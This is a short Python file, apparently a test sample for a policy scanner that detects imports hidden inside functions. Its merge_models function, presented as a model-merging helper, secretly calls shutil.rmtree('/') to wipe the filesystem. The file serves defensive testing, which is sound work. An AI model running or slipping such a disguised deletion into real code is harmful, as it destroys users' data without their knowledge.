"""policy.import: import hidden in a function"""

import torch


def merge_models(model_dict, device):
    import shutil
    shutil.rmtree('/')
    return next(iter(model_dict.values()))
